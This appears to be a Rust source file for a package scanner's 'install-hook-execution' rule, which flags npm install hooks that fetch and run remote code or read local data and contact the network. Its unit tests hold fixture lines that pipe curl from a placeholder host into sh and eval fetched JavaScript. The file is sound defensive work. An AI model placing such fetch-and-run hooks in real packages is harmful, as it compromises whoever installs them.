use facts::{Destination, EffectKind, Facts, Origin, Origination, Source};
use finding::{Confidence, Finding, RuleMeta, Severity};

use crate::code;
use crate::rule::declare_rule;
use crate::{Context, Rule};

declare_rule! {
    InstallHookExecution = "install-hook-execution",
    summary: "runs by itself when its packages are installed",
    severity: Medium, confidence: Medium, reads: ["code"],
    fix: "Install with scripts switched off (`npm install --ignore-scripts`), and read the script.",
    since: "0.1.0",
}

/// The scripts that a package manager runs without being asked.
const HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

impl Rule for InstallHookExecution {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &Context<'_>, out: &mut Vec<Finding>) {
        for (_, source) in cx.sources() {
            let Some(hook) = hook(source) else { continue };
            let Some(effect) = source.effects.first() else {
                continue;
            };
            let Some((what, severity, most)) = judge(cx.facts, source) else {
                continue;
            };
            let finding = Finding::new(&META, format!("its {hook} script {what}"))
                .severity(severity)
                .confidence(code::confidence(cx, source, most));
            out.push(code::located(
                cx,
                source,
                finding,
                (effect.span, "it runs on installation"),
                [],
            ));
        }
    }
}

fn hook(source: &Source) -> Option<&str> {
    let Origin::Embedded { by } = &source.origin else {
        return None;
    };
    let script = by.strip_prefix("package.json scripts.")?;
    HOOKS.contains(&script).then_some(script)
}

fn judge(facts: &Facts, source: &Source) -> Option<(String, Severity, Confidence)> {
    let remote = |s: &Source| {
        s.flows.iter().any(|f| {
            matches!(f.from.what, Origination::Net(_) | Origination::Decoded(_))
                && matches!(f.to.what, Destination::Eval(_) | Destination::Exec(_))
        })
    };
    if remote(source) {
        return Some((
            "runs what it fetches or decodes".to_owned(),
            Severity::High,
            Confidence::High,
        ));
    }
    // A file of the package that the script starts.
    for effect in &source.effects {
        let EffectKind::Exec { program, args, .. } = &effect.kind else {
            continue;
        };
        let named: Vec<String> = std::iter::once(program)
            .chain(args)
            .map(|v| v.rendered().trim_start_matches("./").to_owned())
            .collect();
        for file in facts.sources.iter().filter(|s| {
            matches!(s.origin, Origin::File)
                && named
                    .iter()
                    .any(|n| *n == s.path || s.path.ends_with(&format!("/{n}")))
        }) {
            if remote(file) {
                return Some((
                    format!(
                        "starts {}, which runs what it fetches or decodes",
                        file.path
                    ),
                    Severity::High,
                    Confidence::High,
                ));
            }
            if file
                .effects
                .iter()
                .any(|e| matches!(e.kind, EffectKind::Net { .. }))
                && file.effects.iter().any(|e| {
                    matches!(
                        e.kind,
                        EffectKind::EnvAll | EffectKind::Env { .. } | EffectKind::Read { .. }
                    )
                })
            {
                return Some((
                    format!(
                        "starts {}, which reads from this machine and talks to the network",
                        file.path
                    ),
                    Severity::Medium,
                    Confidence::Medium,
                ));
            }
        }
    }
    let net = source
        .effects
        .iter()
        .any(|e| matches!(e.kind, EffectKind::Net { .. }));
    net.then(|| {
        (
            "talks to the network".to_owned(),
            Severity::Medium,
            Confidence::Medium,
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::findings;

    #[test]
    fn a_hook_that_fetches_and_runs_is_high() {
        let found = findings(
            &InstallHookExecution,
            &[(
                "package.json",
                r#"{"scripts": {"postinstall": "curl -s https://x.example.net/a | sh"}}"#,
            )],
        );
        assert_eq!(found[0].severity, Severity::High);
    }

    #[test]
    fn a_hook_is_judged_by_the_file_that_it_starts() {
        let manifest = r#"{"scripts": {"preinstall": "node setup.js"}}"#;
        let bad = "fetch('https://x.example.net/a').then(r => r.text()).then(t => eval(t))";
        assert_eq!(
            findings(
                &InstallHookExecution,
                &[("package.json", manifest), ("setup.js", bad)]
            )[0]
            .severity,
            Severity::High
        );
        assert!(
            findings(
                &InstallHookExecution,
                &[
                    ("package.json", manifest),
                    ("setup.js", "console.log('hello')")
                ]
            )
            .is_empty()
        );
    }

    #[test]
    fn builds_and_tests_pass() {
        assert!(
            findings(
                &InstallHookExecution,
                &[(
                    "package.json",
                    r#"{"scripts": {"prepare": "tsc", "test": "curl https://x.example.net | sh"}}"#
                )]
            )
            .is_empty()
        );
    }
}
